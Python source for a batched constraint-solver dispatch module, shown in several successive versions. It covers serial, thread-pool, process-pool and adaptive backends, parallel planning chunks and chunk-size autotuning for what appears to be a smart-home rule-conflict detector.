        count = int(count_text) if count_text else 4
    except ValueError:
        raise unknown(f"worker count {count_text!r} is not an int") from None
    if count < 1:
        raise unknown("worker count must be >= 1")
    if name == "serial":
        return SerialDispatcher()
    if name == "thread":
        return ThreadPoolDispatcher(count)
    return ProcessPoolDispatcher(count)
