"""Batched solver dispatch (plan/execute detection, DESIGN.md §9).

Detection planning (:meth:`repro.detector.engine.DetectionEngine
.detect_signed_batch`) walks the candidate tests without calling the
solver and emits one :class:`SolveTask` per cache-missing constraint
instance.  Tasks are pure data — a :class:`~repro.constraints.solver
.VarPool` plus a :class:`~repro.constraints.terms.BoolFormula`, both
built from frozen dataclasses — so a batch can be executed anywhere: in
the calling thread, on a thread pool, or pickled out to a process pool.

The contract every backend must honour (and the equivalence tests
enforce) is *deterministic merge*: outcomes are keyed by task, callers
read them by key and commit results in their own (serial) planning
order, so completion order never influences threat reports, solve
caches or persisted store bytes — they are identical for every backend
and worker count.

Backends
--------

* :class:`SerialDispatcher` — executes tasks inline, in submission
  order; the default and the semantic reference.
* :class:`ThreadPoolDispatcher` — ``concurrent.futures`` threads.  The
  solver is pure Python, so the GIL caps the speedup; useful mainly as
  a cheap determinism cross-check and to overlap I/O-heavy callers.
* :class:`ProcessPoolDispatcher` — worker processes; tasks are pickled
  over in chunks.  This is the backend that turns the solver loop into
  a real fan-out (the store-scale benchmark's worker sweep).

Pooled backends execute *streamed*: the planner hands tasks over as it
discovers them (:meth:`SolverDispatcher.stream`), so workers solve the
first candidate pairs while the planner is still walking the last ones
— planning and solving overlap instead of strictly alternating.

Executors are created lazily and reused across batches; call
:meth:`~SolverDispatcher.close` (or use the dispatcher as a context
manager) to release workers deterministically.
"""

from __future__ import annotations

import time
from concurrent.futures import Executor, ProcessPoolExecutor, ThreadPoolExecutor
from dataclasses import dataclass
from typing import Iterable, Sequence

from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import BoolFormula

# A task key names one solve-cache slot: ("situation" | "condition",
# rule_id_lo, rule_id_hi) with the ids sorted (those caches are keyed by
# unordered pairs), or ("effect", rule_id_a, rule_id_b) in rule order.
TaskKey = tuple[str, str, str]

# Tasks per worker message: one solve is ~0.1-0.2 ms, so chunking keeps
# the pickle/IPC overhead per solve well under the solve itself.
_CHUNK_TASKS = 64


@dataclass(frozen=True, slots=True)
class SolveTask:
    """One deferred solver call: everything needed to decide it.

    Picklable by construction (pool and formula are plain frozen
    dataclasses over builtins), so process backends can ship it to a
    worker without touching any engine state."""

    key: TaskKey
    pool: VarPool
    formula: BoolFormula


@dataclass(frozen=True, slots=True)
class SolveOutcome:
    """A task's result plus the solver CPU seconds it cost."""

    result: Result
    seconds: float


def execute_task(task: SolveTask) -> tuple[TaskKey, SolveOutcome]:
    """Solve one task.  Module-level so process pools can pickle it."""
    started = time.perf_counter()
    result = Solver(task.pool).solve(task.formula)
    return task.key, SolveOutcome(result, time.perf_counter() - started)


def execute_chunk(
    tasks: Sequence[SolveTask],
) -> list[tuple[TaskKey, SolveOutcome]]:
    """Solve a chunk of tasks (one worker message)."""
    return [execute_task(task) for task in tasks]


class DispatchStream:
    """One round of solves in flight.

    :meth:`submit` hands freshly planned tasks to the backend (pooled
    backends start solving immediately); :meth:`collect` blocks until
    everything submitted is solved and returns outcomes keyed by task.
    The serial reference implementation simply buffers and solves in
    submission order at collect time."""

    def __init__(self) -> None:
        self._buffered: list[SolveTask] = []

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        tasks, self._buffered = self._buffered, []
        return dict(execute_chunk(tasks))


class _PooledStream(DispatchStream):
    """Streams task chunks onto an executor as they are submitted."""

    def __init__(self, executor: Executor, chunk_tasks: int) -> None:
        super().__init__()
        self._executor = executor
        self._chunk_tasks = chunk_tasks
        self._futures: list = []

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)
        while len(self._buffered) >= self._chunk_tasks:
            chunk = self._buffered[: self._chunk_tasks]
            del self._buffered[: self._chunk_tasks]
            self._futures.append(self._executor.submit(execute_chunk, chunk))

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        if self._buffered:
            chunk, self._buffered = self._buffered, []
            self._futures.append(self._executor.submit(execute_chunk, chunk))
        futures, self._futures = self._futures, []
        outcomes: dict[TaskKey, SolveOutcome] = {}
        for future in futures:
            outcomes.update(future.result())
        return outcomes


class SolverDispatcher:
    """Executes solve tasks; base class and serial reference."""

    name = "serial"
    workers = 1

    def stream(self) -> DispatchStream:
        """A fresh stream for one round of planned tasks."""
        return DispatchStream()

    def run(
        self, tasks: Sequence[SolveTask]
    ) -> dict[TaskKey, SolveOutcome]:
        """Execute a ready-made task list (non-streamed convenience)."""
        stream = self.stream()
        stream.submit(tasks)
        return stream.collect()

    def close(self) -> None:
        """Release any pooled workers (no-op for the serial backend)."""

    def __enter__(self) -> "SolverDispatcher":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def __repr__(self) -> str:
        return f"{type(self).__name__}(workers={self.workers})"


class SerialDispatcher(SolverDispatcher):
    """In-order, in-process execution — byte-identical to the engine
    solving inline, and the reference the parallel backends are tested
    against."""


class _PooledDispatcher(SolverDispatcher):
    """Shared lazy-executor plumbing for thread/process backends."""

    def __init__(
        self, workers: int = 4, chunk_tasks: int = _CHUNK_TASKS
    ) -> None:
        if workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        if chunk_tasks < 1:
            raise ValueError(f"chunk_tasks must be >= 1, got {chunk_tasks}")
        self.workers = workers
        self.chunk_tasks = chunk_tasks
        self._executor: Executor | None = None

    def _make_executor(self) -> Executor:
        raise NotImplementedError

    def stream(self) -> DispatchStream:
        if self._executor is None:
            self._executor = self._make_executor()
        return _PooledStream(self._executor, self.chunk_tasks)

    def close(self) -> None:
        if self._executor is not None:
            self._executor.shutdown(wait=True)
            self._executor = None


class ThreadPoolDispatcher(_PooledDispatcher):
    """Thread-pool execution (GIL-bound; determinism cross-check and
    overlap with I/O-heavy callers)."""

    name = "thread"

    def _make_executor(self) -> Executor:
        return ThreadPoolExecutor(max_workers=self.workers)


class ProcessPoolDispatcher(_PooledDispatcher):
    """Process-pool execution; tasks and results cross a pickle
    boundary, which :class:`SolveTask` supports by construction."""

    name = "process"

    def _make_executor(self) -> Executor:
        return ProcessPoolExecutor(max_workers=self.workers)


class SolveBatch:
    """An ordered, key-deduplicated collection of :class:`SolveTask`s
    and the outcomes of the rounds executed so far.

    Planning may run in several rounds (a condition solve is only
    needed once the pair's situation solve came back UNSAT, mirroring
    the serial engine's Fig. 9 reuse), so the batch tracks which tasks
    are still unexecuted; :meth:`take_pending` feeds exactly those to a
    dispatch stream and :meth:`absorb` merges the stream's outcomes."""

    __slots__ = ("_tasks", "_pending", "requested", "outcomes")

    def __init__(self) -> None:
        self._tasks: list[SolveTask] = []
        self._pending: list[SolveTask] = []
        self.requested: set[TaskKey] = set()
        self.outcomes: dict[TaskKey, SolveOutcome] = {}

    def __len__(self) -> int:
        return len(self._tasks)

    def __iter__(self):
        return iter(self._tasks)

    @property
    def pending(self) -> int:
        return len(self._pending)

    def add(self, task: SolveTask) -> bool:
        """Queue a task unless its key is already requested."""
        if task.key in self.requested:
            return False
        self.requested.add(task.key)
        self._tasks.append(task)
        self._pending.append(task)
        return True

    def take_pending(self) -> list[SolveTask]:
        """Pop the tasks queued since the last call (stream feed)."""
        tasks, self._pending = self._pending, []
        return tasks

    def absorb(self, outcomes: dict[TaskKey, SolveOutcome]) -> None:
        self.outcomes.update(outcomes)

    def outcome(self, key: TaskKey) -> SolveOutcome | None:
        return self.outcomes.get(key)

    def execute(self, dispatcher: SolverDispatcher) -> float:
        """Run every not-yet-executed task in one go; returns the wall
        seconds the dispatch took (non-streamed convenience)."""
        tasks = self.take_pending()
        if not tasks:
            return 0.0
        started = time.perf_counter()
        self.absorb(dispatcher.run(tasks))
        return time.perf_counter() - started


def make_dispatcher(
    workers: int | str | SolverDispatcher | None,
) -> SolverDispatcher | None:
    """Resolve a user-facing ``workers=`` setting into a dispatcher.

    * ``None`` — no batching: the engine keeps its inline solve path.
    * ``"serial"`` / ``1`` — plan/execute with :class:`SerialDispatcher`
      (same results, one batch per detection run).
    * an ``int > 1`` — :class:`ProcessPoolDispatcher` with that many
      workers (the backend that actually scales the solver loop).
    * ``"thread"`` / ``"thread:N"`` / ``"process"`` / ``"process:N"`` —
      explicit backend choice (default 4 workers).
    * a :class:`SolverDispatcher` instance — used as-is.
    """
    def unknown() -> ValueError:
        return ValueError(
            f"unknown dispatcher spec {workers!r}; expected None, a "
            "positive int, 'serial', 'thread[:N]', 'process[:N]' or a "
            "SolverDispatcher"
        )

    if workers is None:
        return None
    if isinstance(workers, SolverDispatcher):
        return workers
    if isinstance(workers, int):
        if workers < 1:
            raise unknown()
        if workers == 1:
            return SerialDispatcher()
        return ProcessPoolDispatcher(workers)
    spec = str(workers).strip().lower()
    name, _, count_text = spec.partition(":")
    try:
        count = int(count_text) if count_text else 4
    except ValueError:
        raise unknown() from None
    if count < 1:
        raise unknown()
    if name == "serial":
        return SerialDispatcher()
    if name == "thread":
        return ThreadPoolDispatcher(count)
    if name == "process":
        return ProcessPoolDispatcher(count)
    raise unknown()
