"""Batched solver dispatch (plan/execute detection, DESIGN.md §9).

Detection planning (:meth:`repro.detector.engine.DetectionEngine
.detect_signed_batch`) walks the candidate tests without calling the
solver and emits one :class:`SolveTask` per cache-missing constraint
instance.  Tasks are pure data — a :class:`~repro.constraints.solver
.VarPool` plus a :class:`~repro.constraints.terms.BoolFormula`, both
built from frozen dataclasses — so a batch can be executed anywhere: in
the calling thread, on a thread pool, or pickled out to a process pool.

The contract every backend must honour (and the equivalence tests
enforce) is *deterministic merge*: outcomes are keyed by task, callers
read them by key and commit results in their own (serial) planning
order, so completion order never influences threat reports, solve
caches or persisted store bytes — they are identical for every backend
and worker count.

Backends
--------

* :class:`SerialDispatcher` — executes tasks inline, in submission
  order; the default and the semantic reference.
* :class:`ThreadPoolDispatcher` — ``concurrent.futures`` threads.  The
  solver is pure Python, so the GIL caps the speedup; useful mainly as
  a cheap determinism cross-check and to overlap I/O-heavy callers.
* :class:`ProcessPoolDispatcher` — worker processes; tasks are pickled
  over in chunks.  This is the backend that turns the solver loop into
  a real fan-out (the store-scale benchmark's worker sweep).

Pooled backends execute *streamed*: the planner hands tasks over as it
discovers them (:meth:`SolverDispatcher.stream`), so workers solve the
first candidate pairs while the planner is still walking the last ones
— planning and solving overlap instead of strictly alternating.

Parallel planning (DESIGN.md §10)
---------------------------------

Since the parallel-planning refactor the *planning* passes fan out too:
pooled backends shard a batch's candidate-pair list into picklable
:class:`PlanTask` chunks that workers plan independently — each chunk
walks its pairs against the batch solve access, builds the cache-missing
constraint instances, solves them locally, and returns a
:class:`PlanResult` with the outcomes plus locally-resolved planning
verdicts (inexpressible effects, deferred pairs).  The coordinator
merges results in chunk order, so the batch state after a round is
identical to the single-planner walk — formulas never cross the wire
back and forth, only signatures go out and small outcomes come home.

:class:`AutoDispatcher` (``make_dispatcher("auto")``) adds adaptive
backend selection on top: batches below :data:`AUTO_MIN_BATCH_PAIRS`
candidate pairs run on the serial reference (a single install review is
too small to amortize worker fan-out), larger ones on a process pool
sized from ``os.cpu_count()``.

Executors are created lazily and reused across batches; call
:meth:`~SolverDispatcher.close` (or use the dispatcher as a context
manager) to release workers deterministically.
"""

from __future__ import annotations

import os
import pickle
import time
from concurrent.futures import Executor, ProcessPoolExecutor, ThreadPoolExecutor
from dataclasses import dataclass
from typing import Iterable, Iterator, Sequence

from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import BoolFormula

# A task key names one solve-cache slot: ("situation" | "condition",
# rule_id_lo, rule_id_hi) with the ids sorted (those caches are keyed by
# unordered pairs), or ("effect", rule_id_a, rule_id_b) in rule order.
TaskKey = tuple[str, str, str]

# Tasks per worker message: one solve is ~0.1-0.2 ms, so chunking keeps
# the pickle/IPC overhead per solve well under the solve itself.
_CHUNK_TASKS = 64

# Candidate pairs per planning chunk: planning one pair costs ~0.1 ms
# (candidate tests + constraint lowering for cache misses), so a chunk
# is a few ms of work — enough to amortize pickling its signatures.
_PLAN_CHUNK_PAIRS = 96

# Autotuning (DESIGN.md §12): dispatchers created with ``autotune=True``
# re-derive both chunk sizes from the previous batch's observed costs,
# targeting this many seconds of work per worker message; the clamps
# keep a pathological measurement (one 50 ms solve, a zero-cost plan
# round) from collapsing or exploding the chunking.  Chunk sizes only
# shape scheduling — results are byte-identical at any size, which the
# fixed-chunk equivalence arms already prove.
_TARGET_CHUNK_SECONDS = 0.008
_CHUNK_TASKS_MIN, _CHUNK_TASKS_MAX = 8, 512
_PLAN_CHUNK_PAIRS_MIN, _PLAN_CHUNK_PAIRS_MAX = 16, 1024

# Below this many candidate pairs the auto backend stays serial: one
# install review's batch is too small to pay for process fan-out.
AUTO_MIN_BATCH_PAIRS = 256


@dataclass(frozen=True, slots=True)
class SolveTask:
    """One deferred solver call: everything needed to decide it.

    Picklable by construction (pool and formula are plain frozen
    dataclasses over builtins), so process backends can ship it to a
    worker without touching any engine state."""

    key: TaskKey
    pool: VarPool
    formula: BoolFormula


@dataclass(frozen=True, slots=True)
class SolveOutcome:
    """A task's result plus the solver CPU seconds it cost.

    ``shared`` marks a verdict served from the shared cross-tenant
    solve cache (DESIGN.md §12) instead of an executed task; the
    finalize pass attributes it to ``shared_cache_hits`` rather than
    ``solver_calls``, and it contributes no solver CPU."""

    result: Result
    seconds: float
    shared: bool = False


def execute_task(task: SolveTask) -> tuple[TaskKey, SolveOutcome]:
    """Solve one task.  Module-level so process pools can pickle it."""
    started = time.perf_counter()
    result = Solver(task.pool).solve(task.formula)
    return task.key, SolveOutcome(result, time.perf_counter() - started)


def execute_chunk(
    tasks: Sequence[SolveTask],
) -> list[tuple[TaskKey, SolveOutcome]]:
    """Solve a chunk of tasks (one worker message)."""
    return [execute_task(task) for task in tasks]


# Per-pair cache knowledge shipped with a plan chunk, as small ints:
# situation/condition verdicts are -1 unknown / 0 unsat / 1 sat, the
# two directed effect slots additionally use 2 for a cached
# inexpressible-effect ``None``.
PairKnowledge = tuple[int, int, int, int]

KNOWN_UNKNOWN = -1
KNOWN_UNSAT = 0
KNOWN_SAT = 1
KNOWN_INEXPRESSIBLE = 2


@dataclass(frozen=True, slots=True)
class PlanTask:
    """One planning chunk: a shard of a batch's candidate-pair list.

    Pure data by construction — ``pairs`` holds frozen
    :class:`~repro.detector.signature.RuleSignature` pairs, ``known``
    the per-pair cache verdicts the coordinating engine already holds,
    and ``resolver`` either the live resolver object (thread backends)
    or its pickled bytes (process backends; workers memoize the decoded
    object per process, so a 2k-app resolver is decoded once, not once
    per chunk).  A worker plans the chunk against a scratch engine
    seeded from ``known`` and solves every task it planned locally, so
    formulas are built *and* decided worker-side.

    ``cache`` optionally carries the coordinator's shared solve-cache
    backend — live object for in-process backends, an
    :meth:`~repro.constraints.solvecache.SolveCacheBackend.encode`
    payload across a pickle boundary, or ``None`` when the backend
    cannot travel (workers then plan without shared-cache consults)."""

    pairs: tuple
    known: tuple[PairKnowledge, ...]
    resolver: object
    cache: object = None


@dataclass(frozen=True, slots=True)
class PlanResult:
    """What one planned chunk resolved.

    ``outcomes`` are the chunk's resolved solves in planning order —
    executed tasks plus any verdicts served from the shared solve
    cache (flagged on the :class:`SolveOutcome`); ``inexpressible`` the
    effect task keys planning proved undecidable without a solver;
    ``deferred`` the chunk-local indices of pairs that need another
    planning round (their condition solve waits on this round's
    situation verdict, paper Fig. 9); ``plan_seconds`` the worker CPU
    spent planning (solve CPU lives in each outcome); ``publishable``
    the ``(shared_key, entry)`` pairs for solves the worker executed
    after a shared-cache miss — the *coordinator* publishes them, so
    ``shared_cache_publishes`` is attributed exactly once."""

    outcomes: tuple[tuple[TaskKey, SolveOutcome], ...]
    inexpressible: tuple[TaskKey, ...]
    deferred: tuple[int, ...]
    plan_seconds: float
    publishable: tuple[tuple[str, dict], ...] = ()


# Decoded-resolver memo for process plan workers, keyed by the pickled
# payload; one batch ships the same payload in every chunk.
_RESOLVER_MEMO: dict[bytes, object] = {}


def resolver_from_payload(payload: object) -> object:
    """The live resolver a plan chunk should plan against."""
    if not isinstance(payload, bytes):
        return payload
    cached = _RESOLVER_MEMO.get(payload)
    if cached is None:
        if len(_RESOLVER_MEMO) >= 4:
            _RESOLVER_MEMO.clear()
        cached = _RESOLVER_MEMO[payload] = pickle.loads(payload)
    return cached


def execute_plan_task(task: PlanTask) -> PlanResult:
    """Plan one chunk.  Module-level so process pools can pickle it;
    the engine import is deferred to break the import cycle (the
    detector engine imports this module)."""
    from repro.detector.engine import plan_pair_chunk

    return plan_pair_chunk(task)


class DispatchStream:
    """One round of solves in flight.

    :meth:`submit` hands freshly planned tasks to the backend (pooled
    backends start solving immediately); :meth:`collect` blocks until
    everything submitted is solved and returns outcomes keyed by task.
    The serial reference implementation simply buffers and solves in
    submission order at collect time."""

    def __init__(self) -> None:
        self._buffered: list[SolveTask] = []

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        tasks, self._buffered = self._buffered, []
        return dict(execute_chunk(tasks))


class _PooledStream(DispatchStream):
    """Streams task chunks onto an executor as they are submitted."""

    def __init__(self, executor: Executor, chunk_tasks: int) -> None:
        super().__init__()
        self._executor = executor
        self._chunk_tasks = chunk_tasks
        self._futures: list = []

    def submit(self, tasks: Iterable[SolveTask]) -> None:
        self._buffered.extend(tasks)
        while len(self._buffered) >= self._chunk_tasks:
            chunk = self._buffered[: self._chunk_tasks]
            del self._buffered[: self._chunk_tasks]
            self._futures.append(self._executor.submit(execute_chunk, chunk))

    def collect(self) -> dict[TaskKey, SolveOutcome]:
        if self._buffered:
            chunk, self._buffered = self._buffered, []
            self._futures.append(self._executor.submit(execute_chunk, chunk))
        futures, self._futures = self._futures, []
        outcomes: dict[TaskKey, SolveOutcome] = {}
        for future in futures:
            outcomes.update(future.result())
        return outcomes


class SolverDispatcher:
    """Executes solve tasks; base class and serial reference."""

    name = "serial"
    workers = 1
    # Whether planning passes are sharded onto this backend's workers
    # (DESIGN.md §10).  The serial reference plans inline against the
    # live engine — the semantics every other mode must reproduce.
    plans_remotely = False
    # Candidate pairs per PlanTask chunk when planning remotely.
    plan_chunk_pairs = _PLAN_CHUNK_PAIRS

    def for_batch(self, pair_count: int) -> "SolverDispatcher":
        """The backend to use for a batch of ``pair_count`` candidate
        pairs — adaptive dispatchers pick per batch, everything else
        returns itself."""
        return self

    def encode_resolver(self, resolver: object) -> object | None:
        """Prepare a resolver for shipping inside :class:`PlanTask`s.

        Returns ``None`` when the resolver cannot travel to this
        backend's workers, which makes the engine fall back to inline
        planning (solve dispatch is unaffected — :class:`SolveTask`\\ s
        are picklable by construction)."""
        return resolver

    def encode_cache(self, cache: object) -> object | None:
        """Prepare a shared solve-cache backend for shipping inside
        :class:`PlanTask`\\ s.  In-process backends travel as the live
        object; process backends override this to ask the backend for a
        picklable payload (``None`` = workers skip shared-cache
        consults; solving is unaffected)."""
        return cache

    def observe_batch(
        self,
        plan_cpu: float,
        pairs: int,
        solves: int,
        solve_cpu: float,
    ) -> None:
        """Feedback after a detection batch: summed planning CPU over
        ``pairs`` candidate pairs and summed solver CPU over ``solves``
        executed tasks.  Autotuning backends re-derive their chunk
        sizes from it; the base class ignores it."""

    def plan_stream(
        self, tasks: Sequence[PlanTask]
    ) -> Iterator[PlanResult]:
        """Plan chunks, yielding results in submission order.  The
        serial reference plans lazily, one chunk per pull."""
        return (execute_plan_task(task) for task in tasks)

    def stream(self) -> DispatchStream:
        """A fresh stream for one round of planned tasks."""
        return DispatchStream()

    def run(
        self, tasks: Sequence[SolveTask]
    ) -> dict[TaskKey, SolveOutcome]:
        """Execute a ready-made task list (non-streamed convenience)."""
        stream = self.stream()
        stream.submit(tasks)
        return stream.collect()

    def close(self) -> None:
        """Release any pooled workers (no-op for the serial backend)."""

    def __enter__(self) -> "SolverDispatcher":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def __repr__(self) -> str:
        return f"{type(self).__name__}(workers={self.workers})"


class SerialDispatcher(SolverDispatcher):
    """In-order, in-process execution — byte-identical to the engine
    solving inline, and the reference the parallel backends are tested
    against."""


class _PooledDispatcher(SolverDispatcher):
    """Shared lazy-executor plumbing for thread/process backends."""

    plans_remotely = True

    def __init__(
        self,
        workers: int = 4,
        chunk_tasks: int = _CHUNK_TASKS,
        plan_chunk_pairs: int = _PLAN_CHUNK_PAIRS,
        autotune: bool = False,
    ) -> None:
        if workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        if chunk_tasks < 1:
            raise ValueError(f"chunk_tasks must be >= 1, got {chunk_tasks}")
        if plan_chunk_pairs < 1:
            raise ValueError(
                f"plan_chunk_pairs must be >= 1, got {plan_chunk_pairs}"
            )
        self.workers = workers
        self.chunk_tasks = chunk_tasks
        self.plan_chunk_pairs = plan_chunk_pairs
        # With autotune on, observe_batch() re-derives both chunk sizes
        # from each batch's measured plan/solve costs; explicit
        # chunk_tasks/plan_chunk_pairs settings stay fixed otherwise.
        self.autotune = autotune
        self._executor: Executor | None = None

    def observe_batch(
        self,
        plan_cpu: float,
        pairs: int,
        solves: int,
        solve_cpu: float,
    ) -> None:
        """Retarget both chunk sizes at :data:`_TARGET_CHUNK_SECONDS`
        of measured work per worker message (DESIGN.md §12).  Cheap
        solves pack more per message (less IPC per solve), expensive
        solves spread thinner (better load balance); likewise for
        planning chunks.  Results never depend on chunk sizes, so the
        adaptation is a pure scheduling change."""
        if not self.autotune:
            return
        if solves > 0 and solve_cpu > 0.0:
            per_solve = solve_cpu / solves
            self.chunk_tasks = max(
                _CHUNK_TASKS_MIN,
                min(_CHUNK_TASKS_MAX, int(_TARGET_CHUNK_SECONDS / per_solve)),
            )
        if pairs > 0 and plan_cpu > 0.0:
            per_pair = plan_cpu / pairs
            self.plan_chunk_pairs = max(
                _PLAN_CHUNK_PAIRS_MIN,
                min(
                    _PLAN_CHUNK_PAIRS_MAX,
                    int(_TARGET_CHUNK_SECONDS / per_pair),
                ),
            )

    def _make_executor(self) -> Executor:
        raise NotImplementedError

    def _executor_or_start(self) -> Executor:
        if self._executor is None:
            self._executor = self._make_executor()
        return self._executor

    def plan_stream(
        self, tasks: Sequence[PlanTask]
    ) -> Iterator[PlanResult]:
        executor = self._executor_or_start()
        futures = [
            executor.submit(execute_plan_task, task) for task in tasks
        ]
        return (future.result() for future in futures)

    def stream(self) -> DispatchStream:
        return _PooledStream(self._executor_or_start(), self.chunk_tasks)

    def close(self) -> None:
        if self._executor is not None:
            self._executor.shutdown(wait=True)
            self._executor = None


class ThreadPoolDispatcher(_PooledDispatcher):
    """Thread-pool execution (GIL-bound; determinism cross-check and
    overlap with I/O-heavy callers)."""

    name = "thread"

    def _make_executor(self) -> Executor:
        return ThreadPoolExecutor(max_workers=self.workers)


class ProcessPoolDispatcher(_PooledDispatcher):
    """Process-pool execution; tasks and results cross a pickle
    boundary, which :class:`SolveTask` supports by construction."""

    name = "process"

    def _make_executor(self) -> Executor:
        return ProcessPoolExecutor(max_workers=self.workers)

    def encode_resolver(self, resolver: object) -> object | None:
        """Pickle the resolver once per batch; every chunk ships the
        same bytes and workers decode them once per process.  An
        unpicklable resolver (e.g. one closed over live handles)
        returns ``None`` — the engine then plans inline, exactly the
        pre-parallel-planning behavior, while solving still fans out."""
        try:
            return pickle.dumps(resolver)
        except Exception:
            return None

    def encode_cache(self, cache: object) -> object | None:
        """Ask the backend for a payload workers can reopen it from
        (e.g. the SQLite cache's file path).  In-process-only backends
        answer ``None``: plan workers then skip shared-cache consults
        while the coordinator keeps consulting and publishing."""
        if cache is None:
            return None
        return cache.encode()


class AutoDispatcher(SolverDispatcher):
    """Adaptive backend selection (DESIGN.md §10).

    :meth:`for_batch` picks per detection batch: below ``min_batch``
    candidate pairs (or on single-CPU hosts) the serial reference runs
    — an install review's handful of pairs never amortizes worker
    fan-out — and above it a lazily created
    :class:`ProcessPoolDispatcher` sized from ``os.cpu_count()``
    (capped at 8: the solver loop stops scaling past that) takes over.
    Byte-identical results either way, per the §9 guarantee."""

    name = "auto"

    def __init__(
        self,
        workers: int | None = None,
        min_batch: int = AUTO_MIN_BATCH_PAIRS,
    ) -> None:
        cpus = os.cpu_count() or 1
        if workers is not None and workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        self.workers = workers if workers is not None else min(cpus, 8)
        self.min_batch = min_batch
        self._serial = SerialDispatcher()
        self._pool: ProcessPoolDispatcher | None = None

    def for_batch(self, pair_count: int) -> SolverDispatcher:
        if self.workers < 2 or pair_count < self.min_batch:
            return self._serial
        if self._pool is None:
            # The adaptive backend also adapts its chunking: each
            # batch's observed plan/solve costs retune the pool's
            # chunk_tasks / plan_chunk_pairs for the next one
            # (DESIGN.md §12) instead of trusting the fixed defaults.
            self._pool = ProcessPoolDispatcher(self.workers, autotune=True)
        return self._pool

    def stream(self) -> DispatchStream:
        # Direct (non-batch-sized) use falls back to the serial
        # reference; detection always routes through for_batch().
        return self._serial.stream()

    def close(self) -> None:
        if self._pool is not None:
            self._pool.close()
            self._pool = None

    def __repr__(self) -> str:
        return (
            f"AutoDispatcher(workers={self.workers}, "
            f"min_batch={self.min_batch})"
        )


class SolveBatch:
    """An ordered, key-deduplicated collection of :class:`SolveTask`s
    and the outcomes of the rounds executed so far.

    Planning may run in several rounds (a condition solve is only
    needed once the pair's situation solve came back UNSAT, mirroring
    the serial engine's Fig. 9 reuse), so the batch tracks which tasks
    are still unexecuted; :meth:`take_pending` feeds exactly those to a
    dispatch stream and :meth:`absorb` merges the stream's outcomes."""

    __slots__ = ("_tasks", "_pending", "requested", "outcomes")

    def __init__(self) -> None:
        self._tasks: list[SolveTask] = []
        self._pending: list[SolveTask] = []
        self.requested: set[TaskKey] = set()
        self.outcomes: dict[TaskKey, SolveOutcome] = {}

    def __len__(self) -> int:
        return len(self._tasks)

    def __iter__(self):
        return iter(self._tasks)

    @property
    def pending(self) -> int:
        return len(self._pending)

    def add(self, task: SolveTask) -> bool:
        """Queue a task unless its key is already requested."""
        if task.key in self.requested:
            return False
        self.requested.add(task.key)
        self._tasks.append(task)
        self._pending.append(task)
        return True

    def take_pending(self) -> list[SolveTask]:
        """Pop the tasks queued since the last call (stream feed)."""
        tasks, self._pending = self._pending, []
        return tasks

    def absorb(self, outcomes: dict[TaskKey, SolveOutcome]) -> None:
        self.outcomes.update(outcomes)

    def absorb_planned(
        self, outcomes: Iterable[tuple[TaskKey, SolveOutcome]]
    ) -> int:
        """Merge outcomes a plan worker solved locally (fused
        plan+solve, DESIGN.md §10); returns how many keys were new —
        the batch's progress measure for the stall check."""
        fresh = 0
        for key, outcome in outcomes:
            if key not in self.requested:
                self.requested.add(key)
                fresh += 1
            self.outcomes[key] = outcome
        return fresh

    def outcome(self, key: TaskKey) -> SolveOutcome | None:
        return self.outcomes.get(key)

    def execute(self, dispatcher: SolverDispatcher) -> float:
        """Run every not-yet-executed task in one go; returns the wall
        seconds the dispatch took (non-streamed convenience)."""
        tasks = self.take_pending()
        if not tasks:
            return 0.0
        started = time.perf_counter()
        self.absorb(dispatcher.run(tasks))
        return time.perf_counter() - started


def make_dispatcher(
    workers: int | str | SolverDispatcher | None,
) -> SolverDispatcher | None:
    """Resolve a user-facing ``workers=`` setting into a dispatcher.

    * ``None`` — no batching: the engine keeps its inline solve path.
    * ``"auto"`` / ``"auto:N"`` — :class:`AutoDispatcher`: serial for
      small batches, a cpu-sized (or ``N``-worker) process pool above
      :data:`AUTO_MIN_BATCH_PAIRS` pairs.  The HomeGuard default.
    * ``"serial"`` / ``1`` — plan/execute with :class:`SerialDispatcher`
      (same results, one batch per detection run).
    * an ``int > 1`` — :class:`ProcessPoolDispatcher` with that many
      workers (the backend that actually scales the solver loop).
    * ``"thread"`` / ``"thread:N"`` / ``"process"`` / ``"process:N"`` —
      explicit backend choice (default 4 workers).
    * a :class:`SolverDispatcher` instance — used as-is.
    """
    def unknown(problem: str = "") -> ValueError:
        detail = f" ({problem})" if problem else ""
        return ValueError(
            f"invalid dispatcher spec {workers!r}{detail}; valid specs: "
            "None (inline solves), a positive int (process workers), "
            "'serial', 'thread[:N]', 'process[:N]', 'auto[:N]' with "
            "N >= 1, or a SolverDispatcher instance"
        )

    if workers is None:
        return None
    if isinstance(workers, SolverDispatcher):
        return workers
    if isinstance(workers, int):
        if workers < 1:
            raise unknown("worker count must be >= 1")
        if workers == 1:
            return SerialDispatcher()
        return ProcessPoolDispatcher(workers)
    spec = str(workers).strip().lower()
    name, _, count_text = spec.partition(":")
    if name not in ("auto", "serial", "thread", "process"):
        raise unknown(f"unknown backend name {name!r}")
    if name == "auto":
        try:
            count = int(count_text) if count_text else None
        except ValueError:
            raise unknown(f"worker count {count_text!r} is not an int") \
                from None
        if count is not None and count < 1:
            raise unknown("worker count must be >= 1")
        return AutoDispatcher(workers=count)
    try:
        count = int(count_text) if count_text else 4
    except ValueError:
        raise unknown(f"worker count {count_text!r} is not an int") from None
    if count < 1:
        raise unknown("worker count must be >= 1")
    if name == "serial":
        return SerialDispatcher()
    if name == "thread":
        return ThreadPoolDispatcher(count)
    return ProcessPoolDispatcher(count)
