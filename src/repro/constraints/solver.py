"""The constraint solver.

A small but complete-for-our-fragment decision procedure:

* numeric variables carry interval domains (floats with a resolution
  ``EPS`` for strict inequalities),
* string variables carry either a finite candidate set or an open
  universe with an exclusion set,
* free atoms are branching booleans,
* the formula is evaluated in three-valued logic under current domains;
  unknown atoms are branched on, assertions are enforced by a
